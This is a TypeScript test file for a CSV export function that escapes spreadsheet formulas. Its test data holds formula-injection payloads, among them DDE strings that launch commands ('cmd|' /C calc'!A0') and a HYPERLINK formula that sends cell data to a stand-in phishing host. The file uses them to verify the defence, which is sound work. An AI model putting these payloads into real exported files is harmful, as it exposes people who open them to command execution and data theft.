import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { type CsvCell, csvLine, escapeFormula } from "#src/lib/export/csv.ts";
import { runs } from "../../deep.ts";

const csvOf = (head: readonly string[], rows: readonly (readonly CsvCell[])[]) =>
  [head, ...rows].map(csvLine).join("");

/** The table as a CSV parser reads it, strictly: every row as long as the first. */
const read = (csv: string): string[][] => parse(csv, { record_delimiter: "\r\n" });

/** Characters that begin a formula in a spreadsheet, after those that it skips. */
const live = /^[\s\p{Cc}\p{Default_Ignorable_Code_Point}]*[=+\-@|%＝＋－＠]/u;
const startsAFormula = (cell: string) => live.test(cell);

const signs = [..."=+-@|%＝＋－＠"];
const before = [
  ...[
    ...["", " ", "  ", "\t", "\r", "\n", "\r\n", "\0", "\u00a0", "\u3000", "\ufeff", "\u200b"],
    ...["\u202e"],
  ],
  ...["'", '"', ",", ";"],
];
const bodies = ["1+1", `HYPERLINK("https://phish.example?x="&A1,"Open")`, "cmd|' /C calc'!A0"];

/** More than 200 cells that mean harm. */
const hostile = [
  ...before.flatMap((start) => signs.map((sign) => `${start}${sign}${bodies[0]}`)),
  ...signs.flatMap((sign) => bodies.map((body) => `${sign}${body}`)),
  ...[`","=1+1`, `"\r\n=1+1`, `a"b`, `""`, "'", "''=1", "\r\n", "a\nb", "x,y;z\t", "\u2028=1"],
  ...["👩‍💻 =1", "-", "", "null", "café", "＝cmd|' /C calc'!A0"],
];

/** The text as it was before `escapeFormula`. */
const withoutApostrophes = (cell: string) => cell.replaceAll(/(^|\r\n|[;\t\r\n])'/g, "$1");

/** The cells that a spreadsheet makes of a file with another separator: quotes count at the start of a cell. */
function cellsBy(separator: string, csv: string): string[] {
  const cells = [""];
  let [isQuoted, isNew] = [false, true];
  for (let at = 0; at < csv.length; at += 1) {
    const char = csv.charAt(at);
    const wasNew = isNew;
    isNew = false;
    if (isQuoted && char === '"' && csv.charAt(at + 1) === '"') at += 1;
    else if (char === '"' && (isQuoted || wasNew)) {
      isQuoted = !isQuoted;
      continue;
    } else if (!isQuoted && (char === separator || char === "\n" || char === "\r")) {
      cells.push("");
      isNew = true;
      continue;
    }
    cells[cells.length - 1] += char;
  }
  return cells;
}

const payloads = [
  ...["=cmd|' /C calc'!A0", "=1+1", "+1+1", "-1+1", "@SUM(1)", "|calc", "%0A=1", "＝1+1"],
  ...[" =1+1", '"=1+1"', "'=1+1", "\u200b=1+1", '=HYPERLINK("https://phish.example")'],
  ...["=1;=2", "=1\t=2", "\n=1+1", "\r\n=1+1", ";=1", "\t+1"],
];

describe("CSV", () => {
  test.each([",", ";", "\t"])("no payload starts a cell that is separated by %j", (separator) => {
    expect(payloads).toHaveLength(19);
    for (const payload of payloads) {
      for (const text of [payload, `x;${payload}`, `x\t${payload}`, `x\n${payload}`]) {
        const cells = cellsBy(
          separator,
          csvOf(
            ["name", "cell"],
            [
              ["first", text],
              ["second", text],
            ],
          ),
        );
        expect(cells.filter(startsAFormula)).toEqual([]);
      }
    }
  });

  test("200 hostile cells come back as they were, and none starts a formula", () => {
    expect(hostile.length).toBeGreaterThan(200);
    // The control: most of them would have been one.
    expect(hostile.filter(startsAFormula).length).toBeGreaterThan(150);
    const rows = hostile.map((cell, index) => [`row ${index}`, cell, index]);
    const back = read(csvOf(["name", "cell", "number"], rows));
    expect(back).toHaveLength(hostile.length + 1);
    expect(back.flat().filter(startsAFormula)).toEqual([]);
    back.slice(1).forEach(([name, cell = "", number], index) => {
      expect([name, number]).toEqual([`row ${index}`, String(index)]);
      expect(withoutApostrophes(cell)).toBe(hostile[index]);
    });
  });

  test("any table keeps its rows, its columns and its texts", () => {
    const cell = fc.oneof(
      fc.string({ unit: "binary", maxLength: 12 }),
      fc.constantFrom(...hostile),
      fc.stringMatching(/^[\s=+@|%",;'-]{0,6}$/),
    );
    const table = fc.array(fc.tuple(cell, cell, cell), { minLength: 1, maxLength: 8 });
    fc.assert(
      fc.property(table, (rows) => {
        const back = read(csvOf(["a", "b", "c"], rows));
        expect(back.slice(1).map((row) => row.map(withoutApostrophes))).toEqual(rows);
        expect(back.flat().filter(startsAFormula)).toEqual([]);
      }),
      runs(),
    );
  });

  test("every field is quoted, every line ends with CRLF, nothing is empty, numbers are numbers", () => {
    expect(
      csvOf(
        ["a", "b"],
        [
          ["x", null],
          [-1.5, undefined],
        ],
      ),
    ).toBe('"a","b"\r\n"x",""\r\n"-1.5",""\r\n');
    expect(csvOf(["a"], [])).toBe('"a"\r\n');
  });

  test("plain words are left as they are", () => {
    for (const plain of ["", "invoice.deleted", "https://a.example/x?y=1", "2026-11-21", "a = b"])
      expect(escapeFormula(plain)).toBe(plain);
  });
});
